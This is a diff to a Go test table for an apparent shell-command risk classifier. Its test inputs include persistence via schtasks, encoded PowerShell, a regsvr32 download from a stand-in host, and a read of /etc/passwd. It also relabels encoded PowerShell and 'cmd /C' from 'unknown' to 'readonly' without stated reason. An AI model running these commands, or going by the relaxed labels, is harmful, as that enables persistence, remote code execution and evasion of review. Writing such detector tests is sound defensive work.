@@ -200,8 +200,8 @@ func TestSlash(t *testing.T) {
 		{"schtasks -CREATE -TR calc", "privileged, persist, cmd[calc]"},
 		{"schtasks /create /tr:calc", "privileged, persist, cmd[calc]"},
 		{"schtasks //create //tr calc", "privileged, persist, cmd[calc]"},
-		{"powershell –enc aQBkAA==", "unknown, encoded[aQBkAA==]"},
-		{"powershell /EncodedC aQBkAA==", "unknown, encoded[aQBkAA==]"},
+		{"powershell –enc aQBkAA==", "readonly, encoded[aQBkAA==]"},
+		{"powershell /EncodedC aQBkAA==", "readonly, encoded[aQBkAA==]"},
 		{"findstr x /etc/passwd", "readonly, read_file /etc/passwd, out input"},
 		{"findstr - a", "readonly, read_file a, out input"},
 		{"schtasks /create /tr", "privileged, not understood, persist"},
@@ -211,7 +211,7 @@ func TestSlash(t *testing.T) {
 		{"rundll32 " + long, "unknown, not understood"},
 		{"regsvr32 /i:'\"http://x.test/a\"b'", "unknown, dynamic, run_download, http_request http://x.test/a"},
 		{"certutil ftp://x http", "unknown"},
-		{"cmd /C", "unknown, in code"},
+		{"cmd /C", "readonly, in code"},
 	} {
 		if got := summary(Interpret(split(tt.command))); got != tt.want {
 			t.Errorf("%.60s\n got %s\nwant %s", tt.command, got, tt.want)
